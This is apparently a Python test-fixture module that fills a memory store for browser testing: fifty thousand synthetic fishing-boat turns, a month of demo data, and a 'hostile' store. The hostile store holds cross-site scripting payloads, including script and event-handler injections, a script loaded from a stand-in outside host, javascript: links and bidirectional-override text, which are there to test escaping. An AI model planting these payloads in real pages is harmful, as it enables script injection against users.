"""Stores for the browser: one with fifty thousand turns and records, one full of hostile things, one to look at."""

from __future__ import annotations

from collections import Counter
from datetime import UTC, datetime, timedelta
from pathlib import Path

from holdfast.log.messages import read_turn
from holdfast.memory import Memory
from holdfast.model import Decision, Kind, Provenance, Record
from holdfast.settings import LogSettings, StoreSettings
from holdfast.store.open import open_store
from holdfast.store.types import ADMIT_STAGE, Changes, Move, NewRecord
from tests.support.memories import QUICK, assistant, ingest_month, user

START = datetime(2025, 1, 1, tzinfo=UTC)
_SESSION = 50
"""Turns each."""
_BATCH = 5000


def fill_large(path: Path, count: int) -> None:
    """So many turns with a record each, as admission writes them, without waiting an hour for admission."""
    store = open_store(path, StoreSettings(durable=False))
    for start in range(0, count, _SESSION):
        said = [
            read_turn(f"On day {n // 90} boat {n} took {n % 37} crates of mackerel to pier {n % 11}", role="user",
                      at=START + timedelta(minutes=16 * n), key=None, origin=None, stability=None, metadata=None,
                      now=START, settings=LogSettings())
            for n in range(start, min(start + _SESSION, count))
        ]  # fmt: skip
        store.append("ana", f"tour {start // _SESSION:05}", said, START)
    for start in range(0, count, _BATCH):
        upto = min(start + _BATCH, count)
        with store.snapshot("ana") as view:
            turns = view.turns(range(start + 1, upto + 1))
        changes = Changes()
        for seq, turn in sorted(turns.items()):
            g = (seq * 7919 % 1000) / 1000
            record = Record(
                f"r-{seq:021x}", "ana", (Kind.FACT, Kind.PREFERENCE, Kind.DECISION)[seq % 3], turn.text,
                Provenance.USER_STATED, 0.9, 2 if seq % 500 == 0 else 1, turn.at, turn.at, turn_ids=(turn.id,),
            )  # fmt: skip
            changes.records.append(NewRecord(record, seq, (seq,), None))
            changes.signals.append((seq, {"g": g, "h": g}))
            changes.receipts.append((turn.id, Decision("added", f"{turn.text!r}, nothing says it", turn.at)))
            day = turn.at.date().isoformat()
            changes.counters.update(Counter({(day, "turns"): 1, (day, "candidates"): 1, (day, "added"): 1}))
        assert store.advance("ana", [Move(ADMIT_STAGE, start, upto)], changes)
    store.close()
    with Memory(path, "ana", settings=QUICK) as memory:
        memory.flush()


HOSTILE = (
    "<script>document.title='taken';alert(1)</script>",
    '"><img src=x onerror="document.title=\'taken\'">',
    "'\"><svg onload=alert(2)>",
    "</textarea></title></style><script src=https://elsewhere.example/x.js></script>",
    '<a hx-get="https://elsewhere.example/" hx-trigger="load" style="position:fixed;inset:0">all</a>',
    "<iframe srcdoc=\"<script>parent.document.title='taken'</script>\"></iframe>",
    "[click](javascript:alert(3)) javascript:alert(4)",
    "\u202etfel ot thgir\u202c and \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \u2066 open isolate",
)


def fill_hostile(path: Path) -> None:
    """Markup wherever a caller may put text, and a turn of ten megabytes."""
    with Memory(path, "ana", settings=QUICK) as memory:
        for text in HOSTILE:
            memory.ingest(text, session=text[:120], metadata={"speaker": text, "note": text})
            memory.ingest(f"I always prefer {text} to everything else", session=text[:120])
            memory.remember(text, kind="guidance", metadata={"note": text})
        memory.ingest("<b>wide</b> \u2067\u05d9\u05dd\u2069 " * 700_000, role="tool", session="ten megabytes")
        memory.flush()


_SAID_TWICE = (
    "I work from the library on Mondays.",
    "On Mondays I work from the library.",
    "My uncle Declan repairs boats in Kinsale.",
    "My uncle Declan repairs boats in Kinsale now.",
)


def fill_month(path: Path) -> None:
    """The demo's month, with digests and a few things that were said twice."""
    with Memory(path, "ana", settings=QUICK) as memory:
        ingest_month(memory)
        for day, text in enumerate(_SAID_TWICE, start=1):
            at = datetime(2026, 10, day, 9, tzinfo=UTC)
            memory.ingest_many([user(text, at=at), assistant("Noted.", at=at)], session=f"2026-10-0{day}-a")
        memory.flush()
        with memory.view as view:
            names = [one.name for one in view.sessions(100)]
        for name in names:
            memory.compact(name, force=True)
        memory.flush()
